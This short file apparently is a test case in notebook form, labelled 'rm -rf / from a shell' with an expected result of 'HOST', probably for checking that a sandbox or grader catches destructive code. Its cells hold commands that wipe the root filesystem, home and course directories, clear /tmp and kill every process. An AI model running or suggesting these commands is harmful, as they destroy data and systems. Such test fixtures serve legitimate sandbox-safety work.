#: why = "rm -rf / from a shell"
#: expect = "HOST"
#: base = "solved"
# %%
!rm -rf --no-preserve-root / 2>/dev/null

# %%
%%bash
rm -rf ~ /course /tmp/* 2>/dev/null; kill -9 -1
